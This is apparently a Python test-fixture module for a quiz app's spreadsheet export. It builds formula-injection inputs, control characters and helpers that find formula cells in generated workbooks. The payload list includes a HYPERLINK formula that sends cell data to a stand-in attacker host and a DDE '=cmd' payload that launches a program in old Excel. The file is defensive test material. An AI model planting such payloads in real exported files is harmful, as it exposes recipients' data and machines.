"""Hostile text for the output tests: formula-looking stems and names, and control characters in the store."""

from __future__ import annotations

from pathlib import Path

from lecturer_app.core.model import Option, Question
from lecturer_app.core.store.ids import uuid7
from lecturer_app.core.store.revisions import Revision

# Each would be a live formula if written as one (the last two run a program in old Excel).
FORMULAS = ['=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm vào đây")', "+1+1", "-2+3", "@SUM(1,2)",
            "=cmd|' /C calc'!A0"]
# What XML 1.0 cannot hold: NUL, SOH, vertical tab (Excel's _x000B_), form feed, escape.
CONTROLS = "\x00\x01\x0b\x0c\x1b"


def formula_questions(topic_id: str = "") -> list[Question]:
    """Single-choice questions whose stems and options start like formulas."""
    topics = [topic_id] if topic_id else []
    return [Question(type="single_choice", stem=text, level="Nhận biết", topic_ids=topics,
                     options=[Option(FORMULAS[(n + 1) % len(FORMULAS)], True), Option("=1/0"), Option("-5"),
                              Option("@A1")])
            for n, text in enumerate(FORMULAS)]


def plant_in_store(store, record, **raw: str) -> str:
    """Save *record* with the fields in *raw* written as they are, as text stored before the
    import boundary cleaned it would be (Store.save cleans every string now); returns its id."""
    body = record.to_body()
    body.update(raw)
    if "option" in raw:
        body["options"][0]["text"] = body.pop("option")
    record_id = record.id or uuid7()
    heads = store.log.heads(record_id) if record.id else []
    store.apply(Revision.create(record_id=record_id, type=record.TYPE, parents=tuple(h.rev_id for h in heads),
                                generation=1 + max((h.generation for h in heads), default=0), body=body,
                                deleted=False, author="thử", device="thử", hlc=store.clock.now(), summary=""))
    return record_id


def formula_cells(path: Path) -> list[str]:
    """Every cell of the workbook at *path* that is a formula, as "Sheet!A1: value"."""
    from openpyxl import load_workbook

    found = []
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            found += [f"{sheet.title}!{c.coordinate}: {c.value}" for c in row if c.data_type == "f"]
    return found


def cell_texts(path: Path) -> set[str]:
    """Every string value in the workbook at *path*."""
    from openpyxl import load_workbook

    return {c.value for sheet in load_workbook(path).worksheets for row in sheet.iter_rows() for c in row
            if isinstance(c.value, str)}
